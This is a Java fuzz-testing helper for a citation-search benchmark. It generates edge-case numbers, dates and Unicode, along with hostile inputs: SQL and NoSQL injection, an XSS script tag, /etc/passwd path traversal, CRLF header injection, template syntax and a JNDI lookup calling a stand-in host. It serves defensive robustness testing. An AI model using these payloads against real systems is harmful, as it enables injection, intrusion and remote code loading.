package org.citestream.benchmarks.fuzz;

import java.util.List;
import java.util.Random;

/** Values that somebody forgot to think of. */
final class HostileValues {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "0",
            "-1",
            "+1",
            "1.5",
            "1e9",
            "1e999",
            "NaN",
            "Infinity",
            "2147483647",
            "2147483648",
            "-2147483648",
            "9223372036854775807",
            "9223372036854775808",
            "0x10",
            "١٢",
            "１２",
            "null",
            "true",
            "undefined",
            "[]",
            "{}",
            "{\"$ne\":null}",
            "' or '1'='1",
            "\"",
            "\\",
            "*",
            "?",
            "~",
            "a~99999999999",
            "a^1e400",
            "(((((((((((((((((((((((((((((((((",
            "[* TO *]",
            "title:/(.*)*$/",
            "AND OR NOT",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "..%2f..%2f",
            "%",
            "%00",
            "\u0000",
            "\r\nSet-Cookie: owned=1",
            "\u202eabc",
            "\ud800",
            "😀😀😀",
            "ﬀ İ ß ǅ",
            "doi:",
            "doi:10.",
            "dblp:",
            ":",
            "a:b:c",
            "rank,rank,rank",
            "9999-12-31T23:59:59.999999999Z",
            "+1000000000-12-31T23:59:59Z",
            "-1000000000-01-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "P1D",
            "day",
            "${7*7}",
            "${jndi:ldap://evil.invalid/x}");

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    String next() {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(1 + random.nextInt(6000));
            case 1 -> TEXTS.get(random.nextInt(TEXTS.size())) + TEXTS.get(random.nextInt(TEXTS.size()));
            case 2 -> characters(1 + random.nextInt(40));
            case 3 -> "a ".repeat(1 + random.nextInt(1500));
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    /** With one character left out, put in, or replaced. */
    String mutated(String value) {
        int place = random.nextInt(value.length() + 1);
        String after = value.substring(random.nextBoolean() ? place : Math.min(value.length(), place + 1));
        return value.substring(0, place) + (random.nextInt(3) == 0 ? "" : characters(1)) + after;
    }

    private String characters(int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.appendCodePoint(random.nextInt(random.nextInt(4) == 0 ? 0x11000 : 0x80));
        }
        return text.toString();
    }

    /** JSON of any form, which is not too deep. */
    String json(int depth) {
        StringBuilder text = new StringBuilder();
        write(text, depth);
        return text.toString();
    }

    private void write(StringBuilder text, int depth) {
        switch (random.nextInt(depth > 0 ? 8 : 5)) {
            case 0 -> text.append(random.nextLong());
            case 1 -> text.append(random.nextBoolean() ? "null" : "1e400");
            case 2 -> text.append(random.nextBoolean());
            case 3, 4 -> quoted(text, next());
            case 5 -> {
                text.append('[');
                for (int i = random.nextInt(5); i > 0; i--) {
                    write(text, depth - 1);
                    text.append(i == 1 ? "" : ",");
                }
                text.append(']');
            }
            default -> {
                text.append('{');
                List<String> names =
                        List.of("url", "secret", "kinds", "venue", "author", "paper", "id", "__proto__", "what");
                for (int i = random.nextInt(5); i > 0; i--) {
                    quoted(text, random.nextInt(4) == 0 ? next() : names.get(random.nextInt(names.size())));
                    text.append(':');
                    write(text, depth - 1);
                    text.append(i == 1 ? "" : ",");
                }
                text.append('}');
            }
        }
    }

    private static void quoted(StringBuilder text, String value) {
        text.append('"');
        for (char each : value.toCharArray()) {
            if (each == '"' || each == '\\') {
                text.append('\\').append(each);
            } else if (each < ' ') {
                text.append("\\u%04x".formatted((int) each));
            } else {
                text.append(each);
            }
        }
        text.append('"');
    }
}
